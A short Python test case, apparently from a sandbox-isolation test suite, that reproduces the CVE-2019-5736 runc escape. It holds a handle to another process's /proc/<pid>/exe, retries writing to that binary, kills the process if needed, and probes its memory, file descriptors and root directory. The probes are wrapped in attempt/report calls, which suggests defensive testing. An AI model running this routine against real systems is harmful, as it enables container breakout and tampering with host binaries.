# T11: the runc trick (CVE-2019-5736): keep a handle to the program of process argv[1], wait until it may be written.
victim = sys.argv[1]
def handle():
    return os.open(f"/proc/{victim}/exe", os.O_PATH)
def write_through():
    fd = handle()
    target = f"/proc/self/fd/{fd}"
    until = time.monotonic() + 0.5
    while True:
        try:
            writer = os.open(target, os.O_WRONLY | os.O_APPEND)
            os.write(writer, b"#overwritten\n")
            return
        except OSError as error:
            if error.errno != errno.ETXTBSY or time.monotonic() > until:
                raise
            if victim != "1":
                os.kill(int(victim), signal.SIGKILL)
report(
    readlink=attempt(os.readlink, f"/proc/{victim}/exe"),
    handle=attempt(handle),
    write=attempt(write_through),
    self_write=attempt(lambda: os.open("/proc/self/exe", os.O_WRONLY)),
    fds=attempt(lambda: [os.open(f"/proc/{victim}/fd/{fd}", os.O_RDONLY) for fd in ("0", "3")]),
    root=attempt(os.listdir, f"/proc/{victim}/root/"),
    memory=attempt(lambda: os.open(f"/proc/{victim}/mem", os.O_RDWR)),
)
